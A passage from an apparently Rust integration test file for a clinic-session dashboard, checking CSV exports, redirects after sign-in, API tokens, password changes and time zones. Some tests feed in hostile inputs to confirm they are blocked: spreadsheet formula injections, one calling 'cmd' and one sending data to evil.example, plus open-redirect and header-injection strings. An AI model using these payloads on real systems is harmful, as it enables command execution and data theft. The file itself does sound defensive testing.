            score("b", T0 + day, 9),
        ],
    };
    let mut doc = PatientDoc::create(&record).unwrap();
    s.store
        .commit_document("p-a1", DocKind::Patient, "austin", doc.automerge(), T0)
        .unwrap();
    let (_, csv) = s.page("/reports/outcomes.csv", &admin).await;
    assert!(csv.contains("austin,2,1,1,20.00,9.00,1,0"), "{csv}");
    let (status, _) = s.page("/reports/advisories?from=junk", &admin).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn room_activity_counts_today_and_running_in_scope() {
    let s = Server::start().await;
    let mut running = session("s-austin-3", "austin", "1", "p-a3", T0 + 60_000_000);
    running
        .update_meta(|m| {
            m.state = SessionState::InProgress;
            m.ended_us = None;
        })
        .unwrap();
    s.store
        .commit_document(
            "s-austin-3",
            DocKind::Session,
            "austin",
            running.automerge(),
            T0,
        )
        .unwrap();
    let scope_of = |name: &str| {
        let user = s.store.user_by_name(name).unwrap().unwrap();
        auth::principal(&user, &sites()).unwrap().scope().clone()
    };
    let all = s.store.room_activity(&scope_of("admin"), T0).unwrap();
    let rows: Vec<(&str, &str, u64, u64)> = all
        .iter()
        .map(|a| {
            (
                a.site.as_str(),
                a.room.as_str(),
                a.sessions_today,
                a.in_progress,
            )
        })
        .collect();
    assert_eq!(
        rows,
        [
            ("austin", "1", 2, 1),
            ("austin", "2", 1, 0),
            ("florida", "1", 1, 0)
        ]
    );
    // Since after the first sessions started; and a region's scope.
    let later = s
        .store
        .room_activity(&scope_of("rm-central"), T0 + 1)
        .unwrap();
    let rows: Vec<(&str, u64, u64)> = later
        .iter()
        .map(|a| (a.room.as_str(), a.sessions_today, a.in_progress))
        .collect();
    assert_eq!(rows, [("1", 1, 1), ("2", 1, 0)]);
    assert_eq!(
        s.store
            .room_activity(&scope_of("rm-southeast"), T0)
            .unwrap()
            .len(),
        1
    );
}

#[tokio::test]
async fn csv_exports_neutralise_formulas_from_people_and_peers() {
    let s = Server::start().await;
    // A session whose patient id, drug and route, and a side effect typed at the bedside,
    // hold what a spreadsheet would run.
    let mut doc = session(
        "s-hostile",
        "austin",
        "1",
        " =HYPERLINK(\"http://evil.example/?\"&A1)",
        T0 + 60_000_000,
    );
    doc.update_meta(|m| {
        m.protocol.drug = "\n=cmd|' /C calc'!A0".into();
        m.protocol.route = "@SUM(A1:A9)".into();
        m.observations[0].effect = "-2+3".into();
        m.observations[0].severity = "+mild".into();
    })
    .unwrap();
    s.store
        .commit_document("s-hostile", DocKind::Session, "austin", doc.automerge(), T0)
        .unwrap();
    let admin = s.login("admin").await;
    let res = s.get("/sessions.csv", Some(&admin)).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["cache-control"], "no-store");
    assert_eq!(res.headers()["x-content-type-options"], "nosniff");
    let csv = res.text().await.unwrap();
    assert!(
        csv.contains(",\"' =HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",completed,"),
        "{csv}"
    );
    assert!(
        csv.contains(",\"'\n=cmd|' /C calc'!A0\",'@SUM(A1:A9),0.5,"),
        "{csv}"
    );
    let (status, csv) = s
        .page(
            "/reports/advisories.csv?from=2026-11-01&to=2026-12-31",
            &admin,
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        csv.lines()
            .any(|l| l == "austin,3,adverse_event,'-2+3,'+mild,1,33.3"),
        "{csv}"
    );
    // No line of any export starts a cell with a formula character.
    for line in csv.lines() {
        for cell in line.split(',') {
            assert!(!cell.trim_start().starts_with(['=', '+', '@']), "{line}");
        }
    }
}

#[tokio::test]
async fn next_after_sign_in_stays_on_this_site() {
    let s = Server::start().await;
    // (next as sent, where the browser goes)
    let cases = [
        ("/sessions?site=austin", "/sessions?site=austin"),
        ("//evil.example/", "/"),
        ("/\\evil.example/", "/"),
        ("/\t/evil.example/", "/"),
        ("/\n/x", "/"),
        ("/\r\nSet-Cookie: x=y", "/"),
        ("https://evil.example/", "/"),
        ("/caf\u{e9}", "/"),
    ];
    for (next, expected) in cases {
        let (cookie, csrf) = s.login_form().await;
        let res = s
            .post(
                "/login",
                Some(&cookie),
                &[
                    ("username", "admin"),
                    ("password", PASSWORD),
                    ("csrf", &csrf),
                    ("next", next),
                ],
            )
            .await;
        assert_eq!(res.status(), StatusCode::SEE_OTHER, "{next:?}");
        assert_eq!(res.headers()[LOCATION], expected, "{next:?}");
        // The sign-in page carries the same cleaned value in its form.
        let res = s
            .get(
                &format!("/login?next={}", vigil_web::url_encode(next)),
                None,
            )
            .await;
        assert_eq!(res.status(), StatusCode::OK, "{next:?}");
        let html = res.text().await.unwrap();
        assert_eq!(
            hidden(&html, "next"),
            vigil_web::escape(expected),
            "{next:?}"
        );
    }
}

#[tokio::test]
async fn the_api_body_limit_does_not_apply_to_the_dashboards_forms() {
    let s = Server::start().await;
    // A sign-in form with a long (but legal) password: read, checked, refused as wrong.
    let long = "x".repeat(3000);
    let res = s.try_login("admin", &long).await;
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    // An upload to a form is refused before anything reads it.
    let (cookie, _) = s.login_form().await;
    let res = s
        .client
        .post(format!("{}/login", s.base))
        .header(COOKIE, cookie)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(vec![b'a'; 64 * 1024])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::BAD_REQUEST);
    // The API keeps its own small limit.
    let res = s
        .client
        .post(format!("{}/api/v1/sessions", s.base))
        .bearer_auth(SERVICE_TOKEN)
        .body(vec![b'x'; 2048])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
}

/// The account page's forms: its CSRF token and the ids of the listed tokens.
async fn account(s: &Server, session: &str) -> (String, Vec<String>) {
    let (status, html) = s.page("/account", session).await;
    assert_eq!(status, StatusCode::OK);
    let ids = html
        .split("name=\"id\" value=\"")
        .skip(1)
        .map(|rest| rest.split('"').next().unwrap().to_owned())
        .collect();
    (hidden(&html, "csrf"), ids)
}

/// Makes a token on the account page; returns the status and, when made, the token.
async fn mint(
    s: &Server,
    session: &str,
    password: &str,
    days: &str,
) -> (StatusCode, Option<String>) {
    let (csrf, _) = account(s, session).await;
    let res = s
        .post(
            "/account/tokens",
            Some(session),
            &[
                ("csrf", &csrf),
                ("label", "reports <script>"),
                ("days", days),
                ("password", password),
            ],
        )
        .await;
    let status = res.status();
    let html = res.text().await.unwrap();
    let token = html
        .split("id=\"new-token\">")
        .nth(1)
        .map(|rest| rest.split('<').next().unwrap().to_owned());
    (status, token)
}

#[tokio::test]
async fn api_tokens_need_the_password_expire_and_can_be_revoked() {
    let s = Server::start().await;
    let session = s.login("rm-central").await;
    // Without the right password no token is made.
    let (status, token) = mint(&s, &session, "not my password", "30").await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(token.is_none());
    let (status, _) = mint(&s, &session, PASSWORD, "0").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    let (status, _) = mint(&s, &session, PASSWORD, "forever").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    let user = s.store.user_by_name("rm-central").unwrap().unwrap();
    assert!(s.store.api_tokens(user.id).unwrap().is_empty());

    // With it, a token that works, listed with its label (escaped), expiry and last use.
    let (status, token) = mint(&s, &session, PASSWORD, "30").await;
    assert_eq!(status, StatusCode::OK);
    let token = token.expect("a new token");
    assert_eq!(s.api("/api/v1/sessions", &token).await.0, StatusCode::OK);
    let listed = s.store.api_tokens(user.id).unwrap();
    assert_eq!(listed.len(), 1);
    assert_eq!(listed[0].label, "reports <script>");
    assert_eq!(
        listed[0].expires_us - listed[0].created_us,
        30 * 86_400_000_000
    );
    assert!(listed[0].last_used_us.is_some(), "the use was recorded");
    let (_, html) = s.page("/account", &session).await;
    assert!(html.contains("reports &lt;script&gt;") && !html.contains("reports <script>"));
    assert!(!html.contains("never"), "{html}");

    // An expired token is refused like an unknown one.
    let now = vigil_cloud::clock::now_us();
    let old =
        auth::issue_api_token(&s.store, "rm-central", "old", 1, now - 2 * 86_400_000_000).unwrap();
    let (status, body) = s.api("/api/v1/sessions", &old).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(
        body["error"].as_str().unwrap().contains("expired"),
        "{body}"
    );
    let (_, html) = s.page("/account", &session).await;
    assert!(html.contains("(expired)"));

    // Revoked on the account page (the form needs its CSRF token), then refused.
    let (csrf, ids) = account(&s, &session).await;
    assert_eq!(ids.len(), 2);
    let newest = &ids[0];
    let res = s
        .post(
            "/account/tokens/revoke",
            Some(&session),
            &[("csrf", "0000"), ("id", newest)],
        )
        .await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    assert_eq!(
        s.api("/api/v1/sessions", &old).await.0,
        StatusCode::UNAUTHORIZED
    );
    let still = s.store.api_tokens(user.id).unwrap();
    let keep = still
        .iter()
        .find(|t| t.label == "reports <script>")
        .unwrap()
        .id
        .to_string();
    let res = s
        .post(
            "/account/tokens/revoke",
            Some(&session),
            &[("csrf", &csrf), ("id", &keep)],
        )
        .await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    assert_eq!(res.headers()[LOCATION], "/account");
    assert_eq!(
        s.api("/api/v1/sessions", &token).await.0,
        StatusCode::UNAUTHORIZED
    );
    // Another user's token cannot be revoked from this account.
    let other = s.store.user_by_name("admin").unwrap().unwrap();
    let theirs = auth::issue_api_token(&s.store, "admin", "x", 30, now).unwrap();
    let their_id = s.store.api_tokens(other.id).unwrap()[0].id.to_string();
    let res = s
        .post(
            "/account/tokens/revoke",
            Some(&session),
            &[("csrf", &csrf), ("id", &their_id)],
        )
        .await;
    assert_eq!(res.status(), StatusCode::NOT_FOUND);
    assert_eq!(s.api("/api/v1/sessions", &theirs).await.0, StatusCode::OK);
}

#[tokio::test]
async fn a_password_change_revokes_tokens_and_ends_sessions() {
    let s = Server::start().await;
    let session = s.login("rm-central").await;
    let elsewhere = s.login("rm-central").await;
    let (_, token) = mint(&s, &session, PASSWORD, "90").await;
    let token = token.unwrap();
    assert_eq!(s.api("/api/v1/sessions", &token).await.0, StatusCode::OK);
    let (csrf, _) = account(&s, &session).await;
    let new_password = "a brand new password";
    let change = |current: &'static str, new: &'static str, repeat: &'static str| {
        let (s, session, csrf) = (&s, session.clone(), csrf.clone());
        async move {
            s.post(
                "/account/password",
                Some(&session),
                &[
                    ("csrf", &csrf),
                    ("current", current),
                    ("new", new),
                    ("repeat", repeat),
                ],
            )
            .await
            .status()
        }
    };
    // Refused without the current password, with a mismatch or a too short one.
    assert_eq!(
        change("wrong password!", new_password, new_password).await,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        change(PASSWORD, new_password, "something else").await,
        StatusCode::BAD_REQUEST
    );
    assert_eq!(
        change(PASSWORD, "short", "short").await,
        StatusCode::BAD_REQUEST
    );
    assert_eq!(s.api("/api/v1/sessions", &token).await.0, StatusCode::OK);
    // Changed: every session and token of the user ends.
    assert_eq!(
        change(PASSWORD, new_password, new_password).await,
        StatusCode::SEE_OTHER
    );
    assert_eq!(
        s.api("/api/v1/sessions", &token).await.0,
        StatusCode::UNAUTHORIZED
    );
    for cookie in [&session, &elsewhere] {
        assert_eq!(
            s.get("/", Some(cookie)).await.status(),
            StatusCode::SEE_OTHER
        );
    }
    assert_eq!(
        s.try_login("rm-central", PASSWORD).await.status(),
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        s.try_login("rm-central", new_password).await.status(),
        StatusCode::SEE_OTHER
    );
    // The CLI's password reset (an admin's) revokes tokens as well.
    let user = s.store.user_by_name("nurse-austin").unwrap().unwrap();
    let nurse = auth::issue_api_token(&s.store, "nurse-austin", "t", 30, T0).unwrap();
    assert!(
        s.store
            .set_password("nurse-austin", &auth::hash_password(new_password).unwrap())
            .unwrap()
    );
    assert!(s.store.api_tokens(user.id).unwrap().is_empty());
    assert_eq!(
        s.api("/api/v1/sessions", &nurse).await.0,
        StatusCode::UNAUTHORIZED
    );
}

/// Austin and Florida sessions at the same instant, each in its site's local time with the
/// zone's abbreviation; the list's and the CSV's times; a session across the November
/// daylight-saving change with the right duration.
#[tokio::test]
async fn every_time_is_the_sites_own() {
    let server = Server::start().await;
    let minute = 60_000_000;
    // 2026-11-01 06:30 UTC is 01:30 CDT in Austin; 40 minutes later the clocks have gone
    // back: 01:10 CST.
    let dst = vigil_shared::zone::SiteZone::utc()
        .parse_day("2026-11-01")
        .unwrap()
        + 390 * minute;
    let mut doc = session("s-dst", "austin", "1", "p-dst", dst);
    doc.update_meta(|m| m.ended_us = Some(dst + 40 * minute))
        .unwrap();
    doc.automerge().commit();
    server
        .store
        .commit_document("s-dst", DocKind::Session, "austin", doc.automerge(), T0)
        .unwrap();
    // The same instant in both sites.
    for (id, site) in [("s-same-a", "austin"), ("s-same-f", "florida")] {
        let mut doc = session(id, site, "1", "p-same", T0 + 86_400_000_000);
        server
            .store
            .commit_document(id, DocKind::Session, site, doc.automerge(), T0)
            .unwrap();
    }
    let admin = server.login("admin").await;

    // T0 + 1 day = 2026-12-01 00:53 UTC: 18:53 CST on 30 November in Austin, 19:53 EST in
    // Florida.
    let (status, austin) = server.page("/sessions/s-same-a", &admin).await;
    assert_eq!(status, StatusCode::OK);
    assert!(austin.contains("2026-11-30 18:53 CST"), "{austin}");
    let (_, florida) = server.page("/sessions/s-same-f", &admin).await;
    assert!(florida.contains("2026-11-30 19:53 EST"), "{florida}");
    assert!(!florida.contains(" UTC"), "no UTC on a site's page");

    let (_, dst_page) = server.page("/sessions/s-dst", &admin).await;
    assert!(dst_page.contains("2026-11-01 01:30 CDT"), "{dst_page}");
    assert!(
        dst_page.contains("2026-11-01 01:10 CST (40 min)"),
        "{dst_page}"
    );

    // The list: each row in its site's time; a note that the form's days are UTC across zones.
    let (_, list) = server.page("/sessions", &admin).await;
    assert!(list.contains("2026-11-30 18:53 CST") && list.contains("2026-11-30 19:53 EST"));
    assert!(list.contains("id=\"zone-note\""));
    // Filtering one site by its own day: 30 November in Austin holds the 18:53 CST session,
    // which is 1 December in UTC.
    let (_, austin_day) = server
        .page(
            "/sessions?site=austin&from=2026-11-30&to=2026-11-30",
            &admin,
        )
        .await;
    assert!(austin_day.contains("s-same-a"), "{austin_day}");
    assert!(!austin_day.contains("id=\"zone-note\""));

    // CSV: UTC and local, with the zone.
    let res = server.get("/sessions.csv?site=florida", Some(&admin)).await;
    let csv = res.text().await.unwrap();
    let header: Vec<&str> = csv.lines().next().unwrap().split(',').collect();
    let row = csv
        .lines()
        .find(|l| l.starts_with("s-same-f,"))
        .expect("florida row");
    let cells: Vec<&str> = row.split(',').collect();
    let col = |name: &str| cells[header.iter().position(|h| *h == name).unwrap()];
    assert_eq!(col("started_utc"), "2026-12-01T00:53:20.000Z");
    assert_eq!(col("started_local"), "2026-11-30T19:53:20-05:00");
    assert_eq!(col("time_zone"), "America/New_York");
}

/// The attention list takes what needs following up from the sessions' care records, only for
/// the sites the viewer may see, and the view is audited.
#[tokio::test]
async fn the_attention_list_shows_what_to_follow_up_within_scope() {
    use vigil_shared::care::{DispositionEntry, RiskAssessmentEntry, RiskScreenEntry};
    let s = Server::start().await;
    let ems = |doc: &mut SessionDoc| {
        doc.update_care(|c| {
            c.disposition = Some(DispositionEntry {
                code: "ems_transfer".into(),
                escort_name: String::new(),
                escort_phone: String::new(),
                escort_relationship: String::new(),
                aldrete_items: vec![],
                note: "chest pain at 20 min; EMS called".into(),
                at_us: T0 + 1_200_000_000,
                by: "nurse".into(),
            })
        })
        .unwrap();
    };
    let high_risk = |doc: &mut SessionDoc| {
        doc.update_care(|c| {
            c.risk = Some(RiskScreenEntry {
                id: "r1".into(),
                phq9_items: vec![3, 3, 2, 2, 2, 2, 2, 2, 2],
                cssrs: vec![true, true, true, true, false, false],
                at_us: T0 + 7_000_000_000,
                by: "nurse".into(),
                assessment: Some(RiskAssessmentEntry {
                    decision: "refer".into(),
                    note: "intent; referred to crisis team".into(),
                    by: "dr".into(),
                    at_us: T0 + 7_100_000_000,
                }),
            })
        })
        .unwrap();
    };
    for (id, site, room, patient, start, edit) in [
        (
            "s-austin-ems",
            "austin",
            "1",
            "p-a3",
            T0,
            &ems as &dyn Fn(&mut SessionDoc),
        ),
        (
            "s-florida-risk",
            "florida",
            "1",
            "p-f2",
            T0 + 7_000_000_000,
            &high_risk,
        ),
    ] {
        let mut doc = session(id, site, room, patient, start);
        edit(&mut doc);
        s.store
            .commit_document(id, DocKind::Session, site, doc.automerge(), T0)
            .unwrap();
    }
    let admin = s.login("admin").await;
    let (status, html) = s.page("/attention", &admin).await;
    assert_eq!(status, StatusCode::OK);
    assert!(html.contains("Transferred by EMS") && html.contains("chest pain at 20 min"));
    assert!(
        html.contains("Suicide-risk answer") && html.contains("high risk; assessed by dr: refer")
    );
    assert_eq!(
        html.matches("data-kind=").count(),
        2,
        "the quiet sessions are not listed"
    );
    // The central region's manager sees Austin's, not Florida's.
    let rm = s.login("rm-central").await;
    let (status, html) = s.page("/attention", &rm).await;
    assert_eq!(status, StatusCode::OK);
    assert!(html.contains("Transferred by EMS"));
    assert!(
        !html.contains("florida") && !html.contains("data-kind=\"suicide_risk\""),
        "{html}"
    );
    let (_, entries) = s.store.audit_log(100, 0).unwrap();
    let views = entries
        .iter()
        .filter(|e| e.action == "view attention list")
        .count();
    assert_eq!(views, 2);
}
